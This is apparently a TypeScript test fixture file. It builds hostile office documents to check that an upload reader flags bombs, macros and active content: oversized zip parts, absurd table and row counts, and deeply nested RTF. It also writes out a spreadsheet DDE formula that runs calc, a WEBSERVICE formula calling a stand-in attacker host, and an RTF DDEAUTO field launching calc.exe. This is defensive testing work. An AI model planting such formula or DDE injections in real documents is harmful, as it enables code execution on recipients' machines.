import { makeDocx, paragraphXml } from '../make-docx.js';
import { makeZip, type ZipPart } from '../make-zip.js';
import { odt, ODT_TEXT } from './hostile-archives.js';
import type { HostileFile } from './hostile-file.js';

const MEGABYTE = 1_000_000;
const TEXT = 'Vi støtter forslaget.';
/** More than any number of a database holds. */
const BEYOND = '99999999999';
const SHEETS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';

/** Letters that do not pack well, so that no ratio gives them away. */
function letters(count: number): string {
  let state = 7;
  return Array.from({ length: count }, () => {
    state = (state * 48_271) % 2_147_483_647;
    return String.fromCharCode(97 + (state % 26));
  }).join('');
}

/** A workbook with one sheet of these rows. */
function workbook(rows: string, strings: readonly string[] = [], others: readonly ZipPart[] = []): Buffer {
  const relation = (id: string, role: string, target: string): string =>
    `<Relationship Id="${id}" Type="${RELATIONS}/${role}" Target="${target}"/>`;
  const relations = (inner: string): string =>
    `<Relationships xmlns="${PACKAGE}/relationships">${inner}</Relationships>`;
  return makeZip([
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="${PACKAGE}/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations(relation('m', 'officeDocument', 'xl/workbook.xml')) },
    {
      name: 'xl/workbook.xml',
      content: `<workbook xmlns="${SHEETS}" xmlns:r="${RELATIONS}"><sheets><sheet name="Svar" sheetId="1" r:id="s"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relations(relation('s', 'worksheet', 'sheet.xml') + relation('t', 'sharedStrings', 'strings.xml')),
    },
    { name: 'xl/sheet.xml', content: `<worksheet xmlns="${SHEETS}"><sheetData>${rows}</sheetData></worksheet>` },
    {
      name: 'xl/strings.xml',
      content: `<sst xmlns="${SHEETS}">${strings.map((text) => `<si><t>${text}</t></si>`).join('')}</sst>`,
    },
    ...others,
  ]);
}

/** An old Office file as far as its first bytes and the names of its streams tell. */
const compound = (...streams: readonly string[]): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1_528),
    ...streams.map((name) => Buffer.from(`${name}\u0000`.padEnd(256, '\u0000'), 'utf16le')),
  ]);

const listed = (text: string): string =>
  paragraphXml(text, '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>');

/** Documents that lie about places and sizes, or want to become far more than they are. */
export const HOSTILE_DOCUMENTS: readonly HostileFile[] = [
  {
    what: 'a Word file whose list of parts is 20 MB',
    filename: 'svar.docx',
    make: () =>
      makeZip([
        {
          name: '[Content_Types].xml',
          content: `<Types><!--${letters(MEGABYTE / 4)}-->${'<Default/>'.repeat(2 * MEGABYTE)}</Types>`,
        },
        { name: 'word/document.xml', content: 'x' },
      ]),
    verdict: 'bomb',
  },
  {
    what: 'an OpenDocument text whose name of its type is 20 MB',
    filename: 'svar.odt',
    make: () =>
      makeZip([
        {
          name: 'mimetype',
          content: `application/vnd.oasis.opendocument.text${letters(MEGABYTE)}${' '.repeat(20 * MEGABYTE)}`,
        },
        { name: 'content.xml', content: 'x' },
      ]),
    verdict: 'bomb',
  },
  {
    what: 'a Word file with a cell wider than the world',
    filename: 'svar.docx',
    make: () =>
      makeDocx({
        body: `<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val="${BEYOND}"/></w:tcPr>${paragraphXml('Punkt')}</w:tc><w:tc>${paragraphXml(TEXT)}</w:tc></w:tr></w:tbl>`,
      }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file with a heading below the ground',
    filename: 'svar.docx',
    make: () => makeDocx({ body: paragraphXml(TEXT, '<w:outlineLvl w:val="-2.5"/>') }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file whose list numbers are longer than its text',
    filename: 'svar.docx',
    make: () =>
      makeDocx({
        body: listed(TEXT).repeat(5_000),
        numbering: `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="${letters(100_000)}%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
      }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a Word file with nine million letters in it',
    filename: 'svar.docx',
    make: () =>
      makeDocx({ body: (letters(9 * MEGABYTE).match(/.{300}/g) ?? []).map((text) => paragraphXml(text)).join('') }),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'an OpenDocument text with a billion spaces in a row',
    filename: 'svar.odt',
    make: () => odt(ODT_TEXT.replace('støtter', `<text:s text:c="${BEYOND}"/>støtter`)),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'an OpenDocument text with a table of a billion columns',
    filename: 'svar.odt',
    make: () =>
      odt(
        ODT_TEXT.replace(
          '<text:p>',
          `<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-column table:number-columns-repeated="${BEYOND}"/><table:table-row><table:table-cell table:number-columns-repeated="${BEYOND}"><text:p>Punkt</text:p></table:table-cell></table:table-row></table:table><text:p>`,
        ),
      ),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'an OpenDocument text with a heading of no level',
    filename: 'svar.odt',
    make: () => odt(ODT_TEXT.replace('<text:p>', '<text:h text:outline-level="høy">Innledning</text:h><text:p>')),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a workbook with rows and columns beyond any sheet',
    filename: 'svar.xlsx',
    make: () =>
      workbook(
        `<row r="${BEYOND}"><c r="ZZZZZZZZZZZZ1" t="inlineStr"><is><t>${TEXT}</t></is></c></row><row r="to"><c r="Ø" t="str"><v>${TEXT}</v></c></row>`,
      ),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a workbook that starts a program by a formula',
    filename: 'svar.xlsx',
    make: () =>
      workbook(
        '<row r="1"><c r="A1" t="str"><f>cmd|\'/c calc\'!A1</f><v>=cmd|\'/c calc\'!A1</v></c><c r="B1" t="str"><f>WEBSERVICE("http://angriper.example")</f><v>+1</v></c></row>',
      ),
    verdict: 'readable',
    reading: 'text',
  },
  {
    what: 'a workbook whose cells all show one long text',
    filename: 'svar.xlsx',
    make: () => {
      const cells = Array.from({ length: 50_000 }, (_, at) => `<c r="A${String(at + 1)}" t="s"><v>0</v></c>`);
      return workbook(`<row r="1">${cells.join('')}</row>`, [letters(30_000)]);
    },
    verdict: 'readable',
    reading: 'tooLarge',
  },
  {
    what: 'a workbook with macros',
    filename: 'svar.xlsx',
    make: () => workbook('', [], [{ name: 'xl/vbaProject.bin', content: 'x' }]),
    verdict: 'macro',
  },
  {
    what: 'rich text with groups in groups without end',
    filename: 'svar.rtf',
    make: () => Buffer.from(`{\\rtf1 ${'{'.repeat(100_000)}${TEXT}${'}'.repeat(100_000)}}`, 'latin1'),
    verdict: 'readable',
    reading: 'bomb',
  },
  {
    what: 'rich text that asks another program for its text',
    filename: 'svar.doc',
    make: () =>
      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe x}}Vi}', 'latin1'),
    verdict: 'activeContent',
  },
  {
    what: 'an old Word file without anything in it',
    filename: 'svar.doc',
    make: () => compound('WordDocument'),
    verdict: 'readable',
    reading: 'damaged',
  },
  {
    what: 'an old Word file with macros',
    filename: 'svar.doc',
    make: () => compound('WordDocument', 'Macros', '_VBA_PROJECT'),
    verdict: 'macro',
  },
  {
    what: 'a Word file behind a password',
    filename: 'svar.docx',
    make: () => compound('EncryptionInfo', 'EncryptedPackage'),
    verdict: 'encrypted',
  },
  {
    what: 'a program that installs itself',
    filename: 'svar.doc',
    make: () => compound('\u4840\u3b3f\u43f2\u4438\u45b1'),
    verdict: 'otherType',
  },
  {
    what: 'a web archive under the name of a Word file',
    filename: 'svar.doc',
    make: () =>
      Buffer.from(
        'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<html><script>1</script></html>\n--x--\n',
      ),
    verdict: 'otherType',
  },
];
